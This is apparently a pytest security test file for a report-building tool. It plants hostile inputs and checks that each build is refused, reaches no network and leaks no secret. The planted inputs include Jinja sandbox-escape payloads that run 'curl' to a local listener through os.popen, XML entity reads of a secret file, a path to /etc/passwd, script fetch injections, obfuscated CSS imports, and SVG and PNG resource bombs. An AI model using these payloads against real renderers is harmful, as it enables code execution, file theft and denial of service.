"""Hostile edition folders and content folders: nothing runs, nothing leaks, every refusal is a
located message with exit status 1.

Each case is a project holding the minimal brief, a secret file beside it, and whatever the case
plants (templates, stylesheets, strings, images, content). It is built to PDF, EPUB and the web
edition at once with a local listener running: the listener must hear nothing, the secret must
appear in no output, and the command must end with exit 1 and a message naming the file.
"""

from __future__ import annotations

import contextlib
import io
import socket
import threading
import uuid
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.conftest import FIXTURES, run_report

MINIMAL = (FIXTURES / "minimal.yaml").read_text(encoding="utf-8")
LISTENER = "http://127.0.0.1:{port}/"
SVG = "http://www.w3.org/2000/svg"


@dataclass(frozen=True)
class Case:
    """Files to plant (path in the project -> text or bytes) and what the message must name."""

    files: dict[str, str | bytes]
    names: str  # a file the message must name
    says: str  # words the message must hold


def edition(name: str, text: str | bytes) -> dict[str, str | bytes]:
    """A file in the edition folder (content/brief/)."""
    return {f"content/brief/{name}": text}


BLOCKS = {"print.html": "cover_foot", "web.html": "masthead"}


def block(body: str, template: str = "print.html") -> dict[str, str | bytes]:
    """An edition template that extends the base one and puts `body` in one of its blocks."""
    name = BLOCKS[template]
    return edition(
        template, f'{{% extends "base/{template}" %}}{{% block {name} %}}{body}{{% endblock %}}'
    )


def content(text: str) -> dict[str, str | bytes]:
    return {"content/brief.yaml": text}


def with_paragraph(paragraph: str) -> dict[str, str | bytes]:
    quoted = "'" + paragraph.replace("'", "''") + "'"  # YAML: `![...]` would start a tag
    return content(MINIMAL.replace("One paragraph of text.", quoted))


def with_block(block: str) -> dict[str, str | bytes]:
    """The minimal brief with one more block after its paragraph (flow-style YAML)."""
    return content(
        MINIMAL.replace(
            "      - paragraph: One paragraph of text.",
            "      - paragraph: One paragraph of text.\n      - " + block,
        )
    )


def png(width: int, height: int) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("1", (width, height)).save(buffer, format="PNG")
    return buffer.getvalue()


ALLOWED_NOT = "not allowed in templates"
ESCAPES = [  # (expression, what the refusal says)
    ("lipsum.__globals__['os'].popen('curl {listener}').read()", ALLOWED_NOT),
    ("cycler.__init__.__globals__.os.popen('curl {listener}').read()", ALLOWED_NOT),
    ("joiner.__init__.__globals__['os'].system('curl {listener}')", ALLOWED_NOT),
    ("namespace.__init__.__globals__['os'].popen('id').read()", ALLOWED_NOT),
    ("''.__class__.__mro__[1].__subclasses__()", ALLOWED_NOT),
    ("'{0.__class__.__init__.__globals__}'.format(brief)", ALLOWED_NOT),
    ("self._TemplateReference__context", ALLOWED_NOT),
    ("range.__self__.open('../secret.txt').read()", "has no attribute"),
    ("labels.update({'x': 1})", ALLOWED_NOT),
    ("'x' * 1000000000", ALLOWED_NOT),
    ("href.__globals__", ALLOWED_NOT),
    ("brief | attr('__class__')", ALLOWED_NOT),
    ("resolvers.link.__globals__", ALLOWED_NOT),
    ("dict.__init__.__globals__", ALLOWED_NOT),
    ("labels.items.__self__.__class__", ALLOWED_NOT),
    ("'%s' | format(brief.__class__)", ALLOWED_NOT),
    ("brief.edition.date.__class__.today()", ALLOWED_NOT),
    ("brief.edition.date.today()", ALLOWED_NOT),
    ("('x'.encode() * 2000000000) | length", ALLOWED_NOT),
    ("'x'.ljust(2000000000) | length", ALLOWED_NOT),
    ("(9 ** 64) ** 64 > 0", ALLOWED_NOT),
]

USE_FAN_OUT = (  # six levels of ten <use> each: a million copies from a kilobyte
    f'<svg xmlns="{SVG}" width="10" height="10"><defs><g id="l0"><rect width="1" height="1"/></g>'
    + "".join(f'<g id="l{n}">' + f'<use href="#l{n - 1}"/>' * 10 + "</g>" for n in range(1, 7))
    + '</defs><use href="#l6"/></svg>'
)

CASES: dict[str, Case] = {
    **{
        f"template escape {number}": Case(block("{{ " + escape + " }}"), "print.html:1", says)
        for number, (escape, says) in enumerate(ESCAPES, start=1)
    },
    "include outside": Case(block('{% include "../secret.txt" %}'), "secret.txt", "not found"),
    "template runtime error": Case(block("{{ 1 / 0 }}"), "print.html", "ZeroDivisionError"),
    "template not utf-8": Case(edition("print.html", b"\xff\xfe{{ x }}"), "print.html", "UTF-8"),
    "attachment in print": Case(
        block('<a rel="attachment" href="{content}secret.txt">x</a>'), "secret.txt", "attach"
    ),
    "stylesheet from the content folder": Case(
        block('<link rel="stylesheet" href="{content}secret.txt">'), "secret.txt", "not an image"
    ),
    "remote image in web": Case(
        edition("web.html", '<img src="{listener}x.png" alt="x">'), "web.html", "outside"
    ),
    "script in web": Case(
        edition("web.html", "<script>fetch('{listener}')</script>"), "web.html", "<script>"
    ),
    "entity in epub": Case(
        edition(
            "epub/section.xhtml",
            '<!DOCTYPE p [<!ENTITY s SYSTEM "{content}secret.txt">]><p>&s;</p>',
        ),
        "epub/section.xhtml",
        "<!ENTITY>",
    ),
    "xml-stylesheet in epub": Case(
        edition("epub/section.xhtml", '<?xml-stylesheet href="{listener}x.css"?><p>x</p>'),
        "epub/section.xhtml",
        "xml-stylesheet",
    ),
    "meta link header in web": Case(
        edition(
            "web.html",
            '<meta http-equiv="Link" content="<{listener}x.css>; rel=stylesheet"><p>x</p>',
        ),
        "web.html",
        "http-equiv=link",
    ),
    "script hidden from the check in epub": Case(
        edition(
            "epub/section.xhtml",
            '{% extends "base/epub/section.xhtml" %}{% block body %}'
            "<p><![CDATA[ x><script>fetch('{listener}')</script> ]]></p>"
            "{{ super() }}{% endblock %}",
        ),
        "only.xhtml",
        "<script>",
    ),
    "xlink image in web": Case(
        block('<svg><image xlink:href="{listener}x.png"/></svg>', "web.html"),
        "web.html",
        "outside",
    ),
    "backslash address in web": Case(
        block('<img alt="" src="\\\\127.0.0.1:1/x.png">', "web.html"), "web.html", "outside"
    ),
    "animated reference in web": Case(
        block(
            '<svg><image><set attributeName="href" to="{listener}x.png"/></image></svg>', "web.html"
        ),
        "web.html",
        "<set>",
    ),
    "style breakout in web": Case(
        block('<svg><style><img src="{listener}x.png">{}</style></svg>', "web.html"),
        "web.html",
        "holding markup",
    ),
    "address in a css variable": Case(
        edition(
            "css/edition.css",
            ':root { --u: "{listener}x.png"; } body { background-image: image-set(var(--u) 1x); }',
        ),
        "edition.css",
        "var()",
    ),
    "empty print template": Case(edition("print.html", "{# nothing #}"), "print.html", "not HTML"),
    "strings format width": Case(
        edition(
            "strings/en.yaml",
            (Path(__file__).parent.parent / "templates/strings/en.yaml")
            .read_text(encoding="utf-8")
            .replace("{number}", "{number:0>3000000}"),
        ),
        "en.yaml",
        "placeholders",
    ),
    "a mistagged value": Case(
        content(MINIMAL.replace("number: 2", 'number: !!int "abc"')), "brief.yaml:7", "not a int"
    ),
    "svg use fan-out": Case(
        {**with_paragraph("![A drawing](drawing.svg)"), "content/drawing.svg": USE_FAN_OUT},
        "brief.yaml:14",
        "nested",
    ),
    "event handler in epub": Case(
        edition("epub/section.xhtml", '<p onclick="x()">x</p>'), "epub/section.xhtml", "event"
    ),
    "remote stylesheet in epub": Case(
        edition(
            "partials/paragraph.html",
            '<link rel="stylesheet" href="{listener}x.css"/><p>{{ block.paragraph }}</p>',
        ),
        "{listener}",
        "x.css",
    ),
    "escaped import": Case(
        edition("css/edition.css", '@\\69mport "{listener}x.css";'), "edition.css", "@import"
    ),
    "escaped url": Case(
        edition("css/edition.css", "p { background: \\000075rl({listener}x.png) }"),
        "edition.css",
        "url(",
    ),
    "local font": Case(
        edition(
            "css/edition.css",
            '@font-face { font-family: "Brief Serif"; src: local("DejaVu Serif") }',
        ),
        "edition.css",
        "local()",
    ),
    "stylesheet not utf-8": Case(
        edition("css/edition.css", b"p { color: \xff }"), "edition.css", "UTF-8"
    ),
    "strings not yaml": Case(edition("strings/en.yaml", "contents: [oops"), "en.yaml", "flow"),
    "strings a scalar": Case(edition("strings/en.yaml", "just words"), "en.yaml", "mapping"),
    "strings missing words": Case(
        edition("strings/en.yaml", "contents: Inhalt\n"), "en.yaml", "missing"
    ),
    "strings not utf-8": Case(edition("strings/en.yaml", b"contents: \xff\n"), "en.yaml", "UTF-8"),
    "strings placeholder": Case(
        edition(
            "strings/en.yaml",
            (Path(__file__).parent.parent / "templates/strings/en.yaml")
            .read_text(encoding="utf-8")
            .replace("{number}", "{number.__class__}"),
        ),
        "en.yaml",
        "placeholders",
    ),
    "image that is no image": Case(
        with_paragraph("![A secret](secret.txt)"), "brief.yaml:14", "not an image"
    ),
    "image outside": Case(with_paragraph("![x](../outside.png)"), "brief.yaml:14", "outside"),
    "svg with a script": Case(
        {
            **with_paragraph("![A drawing](drawing.svg)"),
            "content/drawing.svg": f'<svg xmlns="{SVG}"><script>x()</script></svg>',
        },
        "brief.yaml:14",
        "<script>",
    ),
    "svg with a remote image": Case(
        {
            **with_paragraph("![A drawing](drawing.svg)"),
            "content/drawing.svg": f'<svg xmlns="{SVG}"><image href="{{listener}}x.png"/></svg>',
        },
        "brief.yaml:14",
        "reference",
    ),
    "decompression bomb": Case(
        {**with_paragraph("![A bomb](bomb.png)"), "content/bomb.png": png(9000, 9000)},
        "brief.yaml:14",
        "pixels",
    ),
    "logo that is no image": Case(
        content(
            MINIMAL.replace(
                "lead: A short lead.", "lead: A short lead.\nstyle:\n  logo: secret.txt"
            )
        ),
        "brief.yaml:11",
        "not an image",
    ),
    "previous outside": Case(
        content(MINIMAL + "previous: ../outside.yaml\nshow_changes: true\n"),
        "brief.yaml:15",
        "outside",
    ),
    "previous not yaml": Case(
        content(MINIMAL + "previous: secret.txt\n"), "brief.yaml:15", ".yaml"
    ),
    "a snowman": Case(with_paragraph("Snow ☃ here."), "brief.yaml:14", "U+2603"),
    "a snowman in a template": Case(block("☃"), "print.html", "U+2603"),
    "a huge number": Case(
        content(MINIMAL.replace("number: 2", "number: " + "9" * 5000)), "brief.yaml:7", "number"
    ),
    "a thousand notes in one paragraph": Case(
        content(
            MINIMAL.replace("One paragraph of text.", "x[^a]" * 250) + "notes:\n  a: A note.\n"
        ),
        "brief.yaml:14",
        "note references",
    ),
    "too many note references in all": Case(
        content(
            MINIMAL.replace(
                "      - paragraph: One paragraph of text.",
                "\n".join(["      - paragraph: '" + "x[^a] " * 19 + "'"] * 16),
            )
            + "notes:\n  a: A note.\n"
        ),
        "brief.yaml:",
        "more than 300 note references",
    ),
    "a table reading a file outside": Case(
        with_block("table: {caption: T, csv: ../../etc/passwd}"), "brief.yaml:15", "data file"
    ),
    "a table reading the secret as CSV": Case(
        with_block("table: {caption: T, csv: secret.txt}"), "secret.txt", "only the column titles"
    ),
    "a figure of the secret": Case(
        with_block("figure: {image: secret.txt, alt: A, caption: C}"), "brief.yaml:15", "image"
    ),
    "a chart fetching data": Case(
        with_block(
            "chart: {caption: C, alt: A, values: [{a: 1}], spec: {mark: bar, "
            "data: {url: '{listener}x.csv'}}}"
        ),
        "brief.yaml:15",
        "spec.data",
    ),
    "a chart with an image mark": Case(
        with_block(
            "chart: {caption: C, alt: A, values: [{a: 1}], spec: {mark: {type: image, "
            "url: '{listener}i.png'}}}"
        ),
        "brief.yaml:15",
        "fetches",
    ),
    "a chart filling from an address": Case(
        with_block(
            "chart: {caption: C, alt: A, values: [{a: 1}], spec: {mark: {type: bar, "
            "fill: 'url({listener}p.svg)'}}}"
        ),
        "brief.yaml:15",
        "url(",
    ),
    "a bibliography outside the content folder": Case(
        {
            "content/brief.yaml": MINIMAL + "bibliography: ../refs.bib\n",
            "refs.bib": "@book{a, title = {A}}",
        },
        "brief.yaml:15",
        "outside the allowed folders",
    ),
    "a CSL style reading a file through an entity": Case(
        {
            "content/brief.yaml": MINIMAL + "citation_style: own.csl\n",
            "content/own.csl": '<?xml version="1.0"?><!DOCTYPE style [<!ENTITY x SYSTEM '
            '"{content}secret.txt">]><style xmlns="http://purl.org/net/xbiblio/csl">&x;</style>',
        },
        "brief.yaml:15",
        "a CSL style has no DOCTYPE",
    ),
    "a CSL style fetching its DTD": Case(
        {
            "content/brief.yaml": MINIMAL + "citation_style: own.csl\n",
            "content/own.csl": '<?xml version="1.0"?><!DOCTYPE style SYSTEM "{listener}csl.dtd">'
            '<style xmlns="http://purl.org/net/xbiblio/csl"/>',
        },
        "brief.yaml:15",
        "a CSL style has no DOCTYPE",
    ),
    "too many sections": Case(
        content(
            MINIMAL.split("sections:")[0]
            + "sections:\n"
            + "".join(
                f"  - id: s{n}\n    title: S\n    blocks:\n      - paragraph: P.\n"
                for n in range(201)
            )
        ),
        "brief.yaml:",
        "at most 200",
    ),
}


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[int, list[object]]]:
    """A local listener that records every connection made to it."""
    heard: list[object] = []
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        server.settimeout(0.2)
        stop = threading.Event()

        def accept() -> None:
            while not stop.is_set():
                with contextlib.suppress(OSError):
                    heard.append(server.accept())

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        yield server.getsockname()[1], heard
        stop.set()
        thread.join()


def plant(project: Path, case: Case, port: int) -> str:
    secret = f"SECRET-{uuid.uuid4()}"
    (project / "content").mkdir(parents=True)
    (project / "content" / "brief.yaml").write_text(MINIMAL, encoding="utf-8")
    (project / "content" / "secret.txt").write_text(secret, encoding="utf-8")
    (project / "outside.png").write_bytes(png(10, 10))
    (project / "outside.yaml").write_text(MINIMAL, encoding="utf-8")
    for name, data in case.files.items():
        target = project / name
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, str):
            data = fill(data, project, port)
            target.write_text(data, encoding="utf-8")
        else:
            target.write_bytes(data)
    return secret


def fill(text: str, project: Path, port: int) -> str:
    """Put the listener's address and the content folder's URL where a case names them."""
    folder = (project / "content").absolute().as_uri() + "/"
    return text.replace("{listener}", LISTENER.format(port=port)).replace("{content}", folder)


def outputs_text(folder: Path) -> bytes:
    """Every byte of every output, EPUB entries unpacked."""
    data = b""
    for path in sorted(folder.rglob("*")) if folder.exists() else []:
        if path.is_file():
            data += path.read_bytes()
            if path.suffix == ".epub":
                with zipfile.ZipFile(path) as book:
                    data += b"".join(book.read(name) for name in book.namelist())
    return data


@pytest.mark.parametrize("name", list(CASES))
def test_a_hostile_case_is_refused_with_a_located_message(
    name: str, tmp_path: Path, listener: tuple[int, list[object]]
) -> None:
    port, heard = listener
    case = CASES[name]
    secret = plant(tmp_path, case, port)
    result = run_report(
        "build", "content/brief.yaml", "-f", "pdf,epub,html", "-o", "out", cwd=tmp_path
    )
    assert result.returncode == 1, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    for words in (case.names, case.says):
        assert fill(words, tmp_path, port) in result.stderr, result.stderr
    assert heard == []
    assert secret.encode() not in outputs_text(tmp_path / "out")


def test_report_check_refuses_what_a_build_refuses(tmp_path: Path) -> None:
    """The pre-commit check renders every output's templates, the web edition's too."""
    plant(tmp_path, CASES["script in web"], 9)
    result = run_report("check", "content/brief.yaml", cwd=tmp_path)
    assert result.returncode == 1
    assert "web.html: <script> is not allowed" in result.stderr
    assert not (tmp_path / "build").exists()
